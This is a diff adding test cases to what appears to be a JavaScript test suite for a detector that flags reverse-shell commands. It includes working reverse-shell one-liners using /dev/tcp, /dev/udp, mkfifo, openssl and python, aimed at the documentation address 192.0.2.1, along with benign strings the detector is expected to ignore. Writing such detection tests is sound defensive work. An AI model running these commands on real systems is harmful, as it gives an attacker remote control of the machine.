@@ -21,6 +21,14 @@ describe('a shell that is tied to a connection', () => {
 		'0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196',
 		'while read l; do eval "$l"; done < /dev/tcp/192.0.2.1/80',
 		"ssh host 'nc -e /bin/sh 192.0.2.1 4444'",
+		"bash -c 'exec 5<>/dev/tcp/192.0.2.1/44; sh <&5 >&5'",
+		"eval 'exec 5<>/dev/tcp/192.0.2.1/44; sh <&5 >&5'",
+		"echo 'exec 5<>/dev/tcp/192.0.2.1/44; sh <&5 >&5' | bash",
+		"printf 'sh -i 3<>/dev/udp/192.0.2.1/44 <&3 >&3' > a.sh; bash a.sh",
+		'python3 -c \'import os; os.system("exec 5<>/dev/tcp/192.0.2.1/44; sh <&5 >&5")\'',
+		'mkfifo f; { sh -i < f; } 2>&1 | { cat > /dev/tcp/192.0.2.1/44; } ; eval "$X"',
+		'{ read l; eval "$l"; } < /dev/tcp/192.0.2.1/80',
+		'openssl s_server -quiet -accept 44 < f | sh > f',
 	])('%s', (command) => {
 		expect(whys(command)).toContain('reverse shell');
 	});
@@ -42,6 +50,13 @@ describe('a shell that is tied to a connection', () => {
 		'socat -V',
 		'echo "nc -e /bin/sh 192.0.2.1 4444"',
 		"grep -rn '/dev/tcp/' src",
+		'curl -H "x: openssl s_client" https://e.example; $COMMAND',
+		'curl https://e.example -d "see /dev/tcp/192.0.2.1/1"; eval "$COMMAND"',
+		'gh issue comment 3 -b "bash -i >& /dev/tcp/192.0.2.1/44 0>&1"; eval "$COMMAND"',
+		'gh pr create --title x --body "nc -e /bin/sh 192.0.2.1 44"; eval "$COMMAND"',
+		'git commit -m "block bash -i >& /dev/tcp/192.0.2.1/44" && git push && eval "$COMMAND"',
+		'ssh host "grep -rn \'/dev/tcp/\' src"; eval "$COMMAND"',
+		"cat >> docs/x.md <<'END'\nbash -i >& /dev/tcp/192.0.2.1/44 0>&1\nEND\ncurl e.example; $COMMAND",
 	])('is not in `%s`', (command) => {
 		expect(whys(command)).not.toContain('reverse shell');
 	});
